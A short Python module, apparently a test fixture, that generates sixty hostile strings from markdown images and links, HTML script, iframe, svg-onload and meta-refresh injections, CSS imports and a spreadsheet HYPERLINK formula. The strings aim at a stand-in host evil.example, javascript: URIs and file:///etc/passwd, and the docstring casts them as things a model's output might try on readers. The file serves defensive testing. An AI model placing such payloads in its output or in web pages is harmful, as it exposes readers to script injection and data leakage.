"""Sixty things that a paper's or a model's words may try on whoever reads them: shapes by aims."""

from __future__ import annotations

import itertools

EVIL = "evil.example"
_AIMS = (
    f"http://{EVIL}/x",
    f"//{EVIL}/x",
    "javascript:window.hit=1",
    "file:///etc/passwd",
    f"data:text/html,<script src='http://{EVIL}/x'></script>",
)
_SHAPES = (
    "![a picture]({aim})",
    "[a link]({aim})",
    "<{aim}>",
    "see {aim} today",
    "[a link][there]\n\n[there]: {aim}",
    '<img src="{aim}" onerror="window.hit=1">',
    '<a href="{aim}">a link</a>',
    '<script src="{aim}">window.hit=1</script>',
    '<iframe src="{aim}"></iframe><svg onload="window.hit=1">',
    '<style>@import "{aim}"; body {{background: url({aim})}}</style>',
    '=HYPERLINK("{aim}", "a link")',
    '"><meta http-equiv="refresh" content="0; url={aim}"><p x="',
)
HOSTILE = tuple(shape.format(aim=aim) for shape, aim in itertools.product(_SHAPES, _AIMS))
